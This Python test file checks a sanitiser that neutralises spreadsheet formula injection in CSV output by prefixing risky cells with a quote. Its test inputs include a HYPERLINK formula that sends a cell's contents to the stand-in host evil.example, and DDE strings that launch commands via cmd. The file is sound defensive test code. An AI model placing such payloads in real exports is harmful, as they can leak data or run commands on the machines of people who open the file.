"""CSV cells a spreadsheet would run as formulas are quoted; everything else is left alone."""

from __future__ import annotations

import csv
import io

import pytest

from assistant.text.spreadsheet import safe_cell, write_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")',
        "+47 22 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Styremedlem", " =not first", "a=b", "", "'already quoted", None, -5, 3.5, True]
)
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) is value


def test_write_csv_quotes_every_risky_cell_and_keeps_the_columns() -> None:
    stream = io.StringIO()
    rows = [
        {"person": "=cmd|'/C calc'!A0", "value_band": "over_1m", "version": -1, "extra": "x"},
        {"person": "Kari Partner", "value_band": "@risk"},
    ]
    write_csv(stream, ["person", "value_band", "version"], rows)
    read = list(csv.reader(io.StringIO(stream.getvalue())))
    assert read == [
        ["person", "value_band", "version"],
        ["'=cmd|'/C calc'!A0", "over_1m", "-1"],  # a number stays a number
        ["Kari Partner", "'@risk", ""],
    ]
